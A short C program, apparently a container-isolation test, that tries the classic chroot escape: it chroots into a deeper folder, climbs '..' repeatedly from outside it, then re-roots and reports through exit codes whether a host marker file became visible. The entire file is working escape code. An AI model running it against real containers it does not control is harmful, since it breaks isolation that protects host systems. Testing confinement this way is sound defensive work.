// The classical way out of a chroot: keep a working directory outside of a second, deeper root, climb from there and
// make what is found the root. Run inside a container that has CAP_SYS_CHROOT.
//
// Ends with 0 when it stayed inside, 1 when it got out: then it sees `marker`, a file of the machine's own root that
// the container does not have. 2 when the way could not be tried.
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int count, char** arguments) {
  if (count != 3) {
    fprintf(stderr, "usage: %s WRITABLE_FOLDER MARKER\n", arguments[0]);
    return 2;
  }
  const char* const marker = arguments[2];
  if (access(marker, F_OK) == 0) {
    fprintf(stderr, "%s is already visible\n", marker);
    return 2;
  }
  if (chdir(arguments[1]) != 0 || mkdir("deeper", 0700) != 0 || chroot("deeper") != 0) {
    perror("mkdir and chroot");
    return 2;
  }
  for (int climbed = 0; climbed < 64; ++climbed) {
    if (chdir("..") != 0) {
      perror("chdir ..");
      return 2;
    }
  }
  if (chroot(".") != 0) {
    perror("chroot .");
    return 2;
  }
  const bool escaped = access(marker, F_OK) == 0;
  puts(escaped ? "escaped" : "stayed inside");
  return escaped ? 1 : 0;
}
